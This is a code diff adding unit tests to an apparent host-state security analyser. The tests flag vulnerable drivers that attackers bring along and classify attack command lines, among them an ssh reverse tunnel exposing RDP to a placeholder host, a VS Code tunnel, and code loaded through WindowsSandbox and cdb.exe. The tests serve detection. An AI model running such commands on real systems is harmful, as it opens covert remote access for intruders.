@@ -1,4 +1,5 @@
 #include "analysers/host_state/commands.hpp"
+#include "analysers/host_state/drivers.hpp"
 #include "analysers/host_state/names.hpp"
 #include <gmock/gmock.h>
 
@@ -46,6 +47,36 @@ TEST(HostStateNames, NamesThatHideWhatTheyAre)
     EXPECT_FALSE(looks_random("qt5quickcontrols2.dll"));
     EXPECT_FALSE(looks_random("sldworks.exe"));
     EXPECT_FALSE(looks_random("vc_redist.x64.exe"));
+}
+
+TEST(HostStateNames, DriversThatIntrudersBringAlongAreKnownWhole)
+{
+    EXPECT_TRUE(is_vulnerable_driver("rtcore64.sys"));
+    EXPECT_TRUE(is_vulnerable_driver("dbutil_2_3.sys"));
+    EXPECT_FALSE(is_vulnerable_driver("rtcore64.dll"));
+    EXPECT_FALSE(is_vulnerable_driver("tcpip.sys"));
+    EXPECT_FALSE(is_vulnerable_driver(".sys"));
+}
+
+std::vector<std::string_view> features_of(std::string_view command)
+{
+    std::vector<std::string_view> features;
+    for (auto const& sign : signs_of_command(command))
+        features.push_back(sign.feature);
+    return features;
+}
+
+TEST(HostStateCommands, ProgramsThatRunWhatTheyAreGivenAndTunnelsAreSigns)
+{
+    using testing::Contains;
+    EXPECT_THAT(features_of(R"(C:\Windows\System32\WindowsSandbox.exe C:\ProgramData\x.wsb)"),
+        Contains("command.loads_by_host"));
+    EXPECT_THAT(features_of(R"(cdb.exe -cf C:\Windows\System32\cdb.ini C:\Windows\System32\defrag.exe)"),
+        Contains("command.loads_by_host"));
+    EXPECT_THAT(features_of(R"("C:\Users\Public\code.exe" tunnel --name pc7)"), Contains("command.tunnels"));
+    EXPECT_THAT(features_of("ssh.exe -R 4444:127.0.0.1:3389 u@h.example"), Contains("command.tunnels"));
+    EXPECT_THAT(features_of(R"(C:\ProgramData\x\init.bat)"), Contains("command.interpreter"));
+    EXPECT_TRUE(features_of(R"(C:\Program Files\x\init.bat)").empty()) << "where administrators install";
 }
 
 TEST(HostStateCommands, SignsAreToldOnceEachWithTheirPart)
